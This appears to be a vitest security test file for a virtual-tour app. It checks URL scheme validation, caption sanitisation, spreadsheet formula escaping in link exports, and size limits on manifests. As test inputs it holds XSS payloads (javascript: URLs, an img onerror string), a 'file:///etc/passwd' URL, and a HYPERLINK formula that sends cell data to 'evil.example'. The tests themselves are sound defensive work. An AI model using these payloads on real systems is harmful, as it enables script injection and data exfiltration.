/**
 * Issue 21, finding 6 (content part): addresses and texts of a tour are kept harmless. Credit
 * links are https only; info bodies are capped and rendered in linear time; caption cues are
 * shown as text; `tour links` cannot hand a spreadsheet a formula; a huge manifest is refused
 * by its size at once.
 */
import { mkdir, mkdtemp, open, rm } from 'node:fs/promises';
import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { validateTourData, validateTourText } from '../../src/core/manifest/validate.ts';
import { MAX_INFO_BODY_CHARS, MAX_MANIFEST_BYTES } from '../../src/core/manifest/limits.ts';
import { formatLinkLines, printedLinks } from '../../src/core/links/scene-links.ts';
import { parseWebVtt } from '../../src/core/narration/webvtt.ts';
import { cuePlainText } from '../../src/core/narration/cue-text.ts';
import { validateTourDir } from '../../src/node/cli/commands/validate.ts';
import { listTours } from '../../src/node/build/vite-plugin-tours.ts';
import { Tour } from '../../src/core/manifest/schema.ts';

const demo = JSON.parse(readFileSync('tours/demo/tour.json', 'utf8')) as Record<string, unknown>;
const clone = <T>(value: T): T => structuredClone(value);
/** The demo's data, as far as the tests write hostile values into it. */
interface Data {
  credits: Array<{ url?: string }>;
  scenes: Array<{
    panorama: { credit?: { author: string; license: string; url?: string } };
    hotspots: Array<{ type: string; url?: string; body?: Record<string, string> }>;
  }>;
}
const loose = (): Data => clone(demo) as unknown as Data;
const file = 'tours/demo/tour.json';

async function problemsOf(data: unknown) {
  return (await validateTourData(data, { file })).problems.filter((p) => p.severity === 'error');
}

describe('credit links: https only', () => {
  it.each([
    'javascript:alert(document.cookie)',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    'http://example.com/licence',
    'JavaScript:alert(1)',
  ])('refuses %s in a tour credit and a panorama credit, saying why', async (url) => {
    const tour = loose();
    tour.credits[0]!.url = url;
    tour.scenes[0]!.panorama.credit = {
      author: 'A',
      license: 'CC BY 4.0',
      url,
    };
    const problems = await problemsOf(tour);
    const refused = problems.filter((p) => p.code === 'url-not-https');
    expect(refused.map((p) => p.path)).toEqual([
      ['credits', 0, 'url'],
      ['scenes', 0, 'panorama', 'credit', 'url'],
    ]);
    expect(refused[0]!.message.en).toMatch(/only addresses starting with https:\/\//);
    expect(refused[0]!.message.vi).toMatch(/https:\/\//);
  });

  it('keeps https credits, and http for link hotspots (not javascript:)', async () => {
    expect(await problemsOf(demo)).toEqual([]);
    const tour = loose();
    const link = {
      id: 'web',
      type: 'link',
      position: { yaw: 0, pitch: 0 },
      title: { vi: 'W', en: 'W' },
    };
    tour.scenes[0]!.hotspots.push({
      ...link,
      url: 'http://di-tich.example.vn/',
    });
    expect(await problemsOf(tour)).toEqual([]);
    tour.scenes[0]!.hotspots.at(-1)!.url = 'javascript:alert(1)';
    const [problem] = await problemsOf(tour);
    expect(problem?.code).toBe('url-not-https');
    expect(problem?.message.en).toContain('(or http://)');
  });
});

describe('info bodies: capped, rendered in linear time', () => {
  it(`refuses a body over ${MAX_INFO_BODY_CHARS} characters with a clear message`, async () => {
    const tour = loose();
    const info = tour.scenes.flatMap((s) => s.hotspots).find((h) => h.type === 'info')!;
    info.body = { vi: 'a'.repeat(MAX_INFO_BODY_CHARS), en: '['.repeat(40_000) };
    const problems = await problemsOf(tour);
    expect(problems.map((p) => [p.code, p.path.at(-1)])).toEqual([['info-body-too-long', 'en']]);
    expect(problems[0]!.message.en).toContain('40000 characters');
    expect(problems[0]!.message.en).toContain(`${MAX_INFO_BODY_CHARS}`);
  });
});

describe('captions: cue markup and entities are never shown raw', () => {
  const RAW =
    '<v Hướng dẫn viên><b>Đền</b> &amp; <i>chùa</i> &lt;img src=x onerror=alert(1)&gt; <c.red>đỏ</c> <00:00:01.000>x';

  it('gives the text a visitor should read', () => {
    expect(cuePlainText(RAW)).toBe('Đền & chùa <img src=x onerror=alert(1)> đỏ x');
  });

  it('reads a file the same way, and many "<" in one pass', () => {
    const parsed = parseWebVtt(`WEBVTT\n\n00:00.000 --> 00:02.000\n${RAW}\n`);
    expect(parsed.ok && parsed.value[0]?.text).toBe(cuePlainText(RAW));
    const hostile = '<'.repeat(200_000);
    const start = performance.now();
    expect(cuePlainText(hostile)).toBe(hostile);
    expect(performance.now() - start).toBeLessThan(200);
  });
});

describe('tour links: no formulas, no stray columns or rows', () => {
  it('escapes cells a spreadsheet would run and strips control characters', () => {
    const tour = Tour.parse(clone(demo));
    const [first, second, third] = tour.scenes;
    first!.title = { vi: '=HYPERLINK("https://evil.example/?"&A1,"Bấm")', en: 'x' };
    second!.title = { vi: '+1\r\n-2\tcột\u0000\u001b[31m', en: 'x' };
    third!.title = { vi: '@SUM(A1)', en: 'x' };
    const lines = formatLinkLines(printedLinks(tour, 'https://di-tich.example.vn/')).split('\n');
    const cells = lines.filter(Boolean).map((line) => line.split('\t'));
    expect(cells.every((row) => row.length === 3)).toBe(true);
    expect(cells[0]![1]).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Bấm")');
    expect(cells[1]![1]).toBe("'+1 -2 cột [31m");
    expect(cells[2]![1]).toBe("'@SUM(A1)");
    // eslint-disable-next-line no-control-regex
    expect(lines.join('\n')).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    for (const row of cells) expect(row[1]).not.toMatch(/^[=+\-@]/);
  });
});

describe('a huge manifest', () => {
  let dir: string;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'security-huge-'));
    const tour = join(dir, 'tours', 'huge');
    await mkdir(tour, { recursive: true });
    // 59 MB: the start of a manifest, then zero bytes (a sparse file: written in no time).
    const handle = await open(join(tour, 'tour.json'), 'w');
    await handle.write('{"version": 1, "id": "huge", "scenes": [');
    await handle.truncate(59 * 1024 * 1024);
    await handle.close();
  });

  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('is refused by `tour validate` at once, by its size, with a clear message', async () => {
    const start = performance.now();
    const report = await validateTourDir(join(dir, 'tours', 'huge'), dir);
    expect(performance.now() - start).toBeLessThan(1000);
    expect(report.valid).toBe(false);
    expect(report.problems.map((p) => p.code)).toEqual(['manifest-too-large']);
    expect(report.problems[0]!.message.en).toMatch(/too large \(59 MB, at most 5 MB\)/);
  });

  it('is refused by the build and the dev server too (they list tours the same way)', async () => {
    const start = performance.now();
    const listing = await listTours(join(dir, 'tours'));
    expect(performance.now() - start).toBeLessThan(1000);
    expect(listing.skipped.map((t) => t.problems[0]?.code)).toEqual(['manifest-too-large']);
  });

  it('is refused as text before it is parsed', async () => {
    const text = `{"a": "${'x'.repeat(MAX_MANIFEST_BYTES)}"}`;
    const start = performance.now();
    const { problems } = await validateTourText(text, { file });
    expect(performance.now() - start).toBeLessThan(1000);
    expect(problems.map((p) => p.code)).toEqual(['manifest-too-large']);
  });
});
